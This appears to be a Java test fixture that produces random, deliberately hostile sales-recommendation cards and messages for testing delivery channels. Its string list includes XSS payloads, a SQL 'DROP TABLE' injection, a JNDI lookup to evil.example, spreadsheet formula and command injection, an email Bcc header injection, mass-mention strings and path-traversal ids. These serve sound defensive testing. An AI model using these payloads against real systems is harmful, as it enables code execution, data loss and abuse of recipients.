package org.nextbestaction.delivery.kit;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.Supplier;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;
import org.nextbestaction.card.CardBrief;
import org.nextbestaction.card.CardText;
import org.nextbestaction.card.UntrustedText;
import org.nextbestaction.delivery.channel.Message;
import org.nextbestaction.delivery.channel.OutgoingCard;
import org.nextbestaction.feedback.Answer;

/**
 * Cards such as nobody would wish to have: everything that the types allow, from a seed. Names,
 * notes and texts are hostile or huge, whatever may be null is null at times, lists are empty or
 * long. The same seed makes the same cards.
 */
public final class RandomCards {

  /** A score that no channel may ever show. */
  public static final String SCORE = "86420.97";

  /** A margin that no channel may ever show. */
  public static final String MARGIN = "31.41593";

  private static final Path GOLDEN =
      Path.of("../nba-rules/src/test/resources/org/nextbestaction/rules/cards");

  /** What somebody may have typed into a name or a note to do harm, or just because. */
  private static final List<String> NASTY =
      List.of(
          "<!channel>",
          "<!here|all> <@U012AB3CD> <#C024BE7LR>",
          "<https://evil.example/x|the invoice>",
          "*bold* _italic_ ~struck~ `code` ```block```",
          "> quoted\n> again",
          "[click](https://evil.example) ![img](https://evil.example/a.png)",
          "# Title\n- item\n1. one\n---",
          "<script>alert(1)</script><img src=x onerror=alert(1)>",
          "</td></table><a href=\"javascript:alert(1)\">x</a>",
          "\"><svg/onload=alert(1)>",
          "&lt;b&gt;&amp;&#60;&nbsp;",
          "=HYPERLINK(\"https://evil.example\",\"pay\")",
          "+cmd|' /C calc'!A0",
          "@SUM(1+1)*cmd",
          "-2+3",
          "\t=1+1",
          "Robert'); DROP TABLE cards;--",
          "{{1}} ${jndi:ldap://evil.example/a} #{7*7} %s %n {0} {name}",
          "<at>all</at> @everyone @here",
          "BEGIN:VALARM\r\nTRIGGER:-PT1M\r\nEND:VALARM",
          "line one\r\nBcc: evil@evil.example\r\n\r\nbody",
          "semi;colon,comma\\back:slash",
          "https://evil.example/login?a=1&b=2",
          "mailto:evil@evil.example tel:+40700000000",
          "\u202Eevitcepsrep\u202C \u2066isolated\u2069 \u200Fmark",
          "שלום עולם",
          "مرحبا بالعالم",
          "Șțăîâ Ștefan Țăndărică",
          "Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324a\u0300\u0301\u0302",
          "👩‍👩‍👧‍👦 🇷🇴 👍🏽 ❤️ 𝒳𝒴 𠜎",
          "漢字かな交じり文",
          "ﷺ ﬁ ½ ² №",
          "a\u0000b\u0007c\u001Bd\u007Fe\u0085f\u2028g\u2029h",
          "zero\u200Bwidth\u00ADsoft\uFEFFbom",
          "\u00A0\u3000 spaces \u2003",
          "\uE000private \uFFFF non",
          "| pipe | table |",
          "nba-0000000000000000|1",
          "<![CDATA[ x ]]> <!-- c --> <?php ?>",
          "',\"\\\b\f\n",
          "true",
          "null",
          "");

  private static final List<String> WORDS =
      List.of(
          "order",
          "stoc",
          "Alfa",
          "livrare",
          "price",
          "factură",
          "quantity",
          "și",
          "the",
          "la",
          "product",
          "reducere",
          "weeks",
          "țeavă",
          "valve",
          "SRL",
          "42",
          "3.5%",
          "M8×40",
          "Öl");

  private final Random random;

  /** Cards of a seed. */
  public RandomCards(long seed) {
    random = new Random(seed);
  }

  /** Cards that an engine made: of the worked example, in English and in Romanian. */
  public static List<OutgoingCard> real() {
    try (Stream<Path> files = Files.list(GOLDEN)) {
      List<OutgoingCard> cards = new ArrayList<>();
      for (Path file : files.sorted().toList()) {
        cards.add(OutgoingCard.read(Files.readString(file, StandardCharsets.UTF_8)));
      }
      return cards;
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /** A card with far too much of everything, all of it made of one text. */
  public static OutgoingCard huge(String unit, String language) {
    String text = unit.repeat(4_000 / unit.length());
    LocalDate day = LocalDate.of(2026, 11, 23);
    CardBrief.Amount amount = new CardBrief.Amount(BigDecimal.TEN.pow(30), text);
    CardBrief.Why why = new CardBrief.Why(text, text, Map.of(), text, day);
    CardBrief.Offer offer =
        new CardBrief.Offer(
            text, text, text, BigDecimal.TEN, amount, 5, text, BigDecimal.TEN, text);
    return new OutgoingCard(
        new CardBrief(
            "nba-0123456789abcdef",
            Integer.MAX_VALUE,
            text,
            text,
            text,
            text,
            day,
            day,
            language,
            language,
            new CardBrief.Subject("customer", text),
            new CardBrief.Person(text, text, text, text),
            new CardBrief.Action(
                "CALL_FOR_REPLENISHMENT", "sales", text, day, "phone", null, 0.5, amount, 14),
            Collections.nCopies(40, why),
            null,
            Collections.nCopies(40, offer),
            new CardBrief.BundleOffer(text, text, Collections.nCopies(40, text)),
            IntStream.range(0, 60)
                .mapToObj(
                    i ->
                        new CardBrief.Constraint(
                            "OWN-" + i, "limit-" + i + ": " + text, text, text, text))
                .toList(),
            Collections.nCopies(40, new CardBrief.Check(text, text)),
            Collections.nCopies(40, new CardBrief.Removed(text, text, text, text)),
            Collections.nCopies(40, text),
            List.of(),
            List.of()),
        new CardText(
            CardText.Passage.template(language, text),
            "email",
            text,
            CardText.Passage.template(language, text)));
  }

  /** The same card with other limits. */
  public static OutgoingCard with(OutgoingCard card, List<CardBrief.Constraint> constraints) {
    CardBrief b = card.brief();
    return new OutgoingCard(
        new CardBrief(
            b.cardId(),
            b.revision(),
            b.customerId(),
            b.customerName(),
            b.agentId(),
            b.agentName(),
            b.asOf(),
            b.expiresOn(),
            b.language(),
            b.spokenLanguage(),
            b.subject(),
            b.contact(),
            b.action(),
            b.why(),
            b.timeline(),
            b.offer(),
            b.bundle(),
            constraints,
            b.checks(),
            b.removed(),
            b.dataGaps(),
            b.quotes(),
            b.interactions()),
        card.text());
  }

  /** The next card. */
  public OutgoingCard card() {
    LocalDate asOf = day();
    CardBrief brief =
        new CardBrief(
            id(),
            1 + random.nextInt(random.nextInt(10) == 0 ? Integer.MAX_VALUE - 1 : 9),
            orNull(this::text),
            orNull(this::text),
            orNull(this::text),
            orNull(this::text),
            asOf,
            orNull(this::day),
            language(),
            language(),
            new CardBrief.Subject(pick("customer", "segment_request"), text()),
            orNull(
                () ->
                    new CardBrief.Person(
                        orNull(this::text),
                        orNull(this::text),
                        orNull(this::text),
                        orNull(this::text))),
            action(),
            several(0, 12, this::why),
            orNull(
                () ->
                    new CardBrief.Timeline(
                        several(0, 8, () -> new CardBrief.Occasion(day(), orNull(this::number))),
                        orNull(this::day),
                        orNull(this::day))),
            several(0, 40, this::offer),
            orNull(() -> new CardBrief.BundleOffer(text(), text(), several(0, 12, this::text))),
            constraints(),
            several(0, 12, () -> new CardBrief.Check(text(), text())),
            several(0, 12, () -> new CardBrief.Removed(text(), text(), text(), orNull(this::text))),
            several(0, 12, this::text),
            several(
                0,
                5,
                () ->
                    new CardBrief.Quotation(
                        pick("activities", "tickets"), text(), day(), new UntrustedText(text()))),
            List.of());
    return new OutgoingCard(
        brief,
        new CardText(
            passage(),
            pick("phone", "email", "message", "visit", "none"),
            orNull(this::text),
            passage()));
  }

  /** The next message of a kind, to somebody, through a channel. */
  public Message message(String channel, String recipient, Message.Kind kind) {
    return message(
        channel,
        recipient,
        kind,
        kind == Message.Kind.DIGEST
            ? several(1, random.nextInt(4) == 0 ? 120 : 8, this::card)
            : List.of(card()));
  }

  /** A message of a kind about given cards. */
  public Message message(
      String channel, String recipient, Message.Kind kind, List<OutgoingCard> cards) {
    boolean later = kind != Message.Kind.CARD && kind != Message.Kind.DIGEST;
    return new Message(
        "key-" + Long.toHexString(random.nextLong()),
        channel,
        recipient,
        kind,
        cards,
        kind == Message.Kind.ANSWERED ? settled() : null,
        later ? reference() : null,
        random.nextBoolean());
  }

  /** What became of a card. */
  public Message.Settled settled() {
    Answer.Decision decision =
        pick(
            Answer.Decision.ACCEPTED,
            Answer.Decision.MODIFIED,
            Answer.Decision.REJECTED,
            Answer.Decision.SNOOZED);
    boolean reasoned = decision == Answer.Decision.REJECTED || random.nextBoolean();
    return new Message.Settled(
        decision,
        reasoned && decision != Answer.Decision.ACCEPTED ? pick(Answer.Reason.values()) : null,
        orNull(this::text),
        orNull(() -> pick("portal", "slack", "hubspot", "whatsapp", "webhook", "teams")),
        Instant.ofEpochSecond(1_790_000_000L + random.nextInt(10_000_000)));
  }

  /** What a channel might have called a message before. */
  public String reference() {
    return "C024BE91L|17900" + (10_000 + random.nextInt(89_999)) + ".000100";
  }

  /** A text: some words, something nasty, nothing, or far too much of it. */
  public String text() {
    return switch (random.nextInt(12)) {
      case 0 -> "";
      case 1, 2, 3 -> pick(NASTY.toArray(String[]::new));
      case 4 -> words(1 + random.nextInt(4)) + pick(NASTY.toArray(String[]::new)) + words(2);
      case 5 -> repeated();
      default -> words(1 + random.nextInt(12));
    };
  }

  private String repeated() {
    String unit =
        random.nextInt(3) == 0
            ? pick("a", "&", "<", "*", "\"", "\\", "ș", "漢", "👍", "e\u0301", "\n", "\u0301", "x ")
            : pick(NASTY.toArray(String[]::new));
    return unit.repeat(1 + random.nextInt(random.nextInt(10) == 0 ? 9_000 : 300));
  }

  private String words(int count) {
    StringBuilder out = new StringBuilder();
    for (int i = 0; i < count; i++) {
      out.append(out.isEmpty() ? "" : " ").append(pick(WORDS.toArray(String[]::new)));
    }
    return out.toString();
  }

  private String id() {
    String plain = "nba-" + String.format("%016x", random.nextLong());
    return random.nextInt(8) == 0
        ? plain + pick("|7", " x", "/../y", "\"'<&>", "șț", "#%25?")
        : plain;
  }

  private String language() {
    return switch (random.nextInt(8)) {
      case 0 -> pick("de", "", "zh-Hans", "../x");
      case 1, 2, 3 -> "ro";
      default -> "en";
    };
  }

  private CardBrief.Action action() {
    return new CardBrief.Action(
        pick("CALL_FOR_REPLENISHMENT", "RESOLVE_OVERDUE", "SEND_QUOTE", "OWN_ACTION", "X Y"),
        pick("sales", "care", "obligation", "internal"),
        text(),
        orNull(this::day),
        pick("phone", "email", "message", "visit", "none"),
        Double.valueOf(SCORE),
        orNull(random::nextDouble),
        orNull(this::amount),
        orNull(this::number));
  }

  private CardBrief.Why why() {
    Map<String, Object> facts = new LinkedHashMap<>();
    for (int i = random.nextInt(6); i > 0; i--) {
      facts.put("fact" + i, pick(text(), number(), random.nextDouble(), random.nextBoolean()));
    }
    return new CardBrief.Why(text(), text(), facts, text(), orNull(this::day));
  }

  private CardBrief.Offer offer() {
    return new CardBrief.Offer(
        text(),
        text(),
        pick("replenishment", "cross_sell", "bundle", "alternative", "similar", "rotation"),
        orNull(this::decimal),
        orNull(this::amount),
        pick(0.0, 5.0, 12.5, 33.333333),
        pick("standard", "extended_allowed"),
        orNull(this::decimal),
        orNull(this::text));
  }

  /** Some have no text in common, so that one that is missing is seen. */
  private List<CardBrief.Constraint> constraints() {
    List<CardBrief.Constraint> all = new ArrayList<>();
    int count = random.nextInt(random.nextInt(3) == 0 ? 61 : 7);
    for (int i = 0; i < count; i++) {
      String code =
          pick("MAX_DISCOUNT", "MIN_MARGIN", "NO_EXTENDED_TERMS", "APPROVAL_REQUIRED", "OWN-" + i);
      Object value =
          code.equals("MIN_MARGIN")
              ? new BigDecimal(MARGIN)
              : pick(null, number(), random.nextDouble(), decimal(), text(), List.of(1, 2));
      all.add(
          new CardBrief.Constraint(
              code, "limit-" + i + ": " + text(), value, orNull(this::text), "RULE-" + i));
    }
    return all;
  }

  private CardText.Passage passage() {
    return new CardText.Passage(language(), text(), pick("template", "gemini-x"), null);
  }

  private CardBrief.Amount amount() {
    return new CardBrief.Amount(decimal(), pick("EUR", "RON", "USD", "x<y"));
  }

  private BigDecimal decimal() {
    return pick(
        BigDecimal.ZERO,
        new BigDecimal("12"),
        new BigDecimal("1E+12"),
        new BigDecimal("-3.5"),
        new BigDecimal("1234567890123456789.123456789"),
        BigDecimal.valueOf(random.nextInt(100_000), 2));
  }

  private Integer number() {
    return random.nextInt(1_000);
  }

  private LocalDate day() {
    return LocalDate.of(2026, 1, 1).plusDays(random.nextInt(700));
  }

  private <T> @Nullable T orNull(Supplier<T> value) {
    return random.nextInt(4) == 0 ? null : value.get();
  }

  @SafeVarargs
  private <T extends @Nullable Object> T pick(T... choices) {
    return choices[random.nextInt(choices.length)];
  }

  private <T> List<T> several(int least, int most, Supplier<T> one) {
    int upTo = random.nextInt(3) == 0 ? most : Math.min(most, least + 4);
    List<T> all = new ArrayList<>();
    for (int i = least + random.nextInt(upTo - least + 1); i > 0; i--) {
      all.add(one.get());
    }
    return all;
  }
}
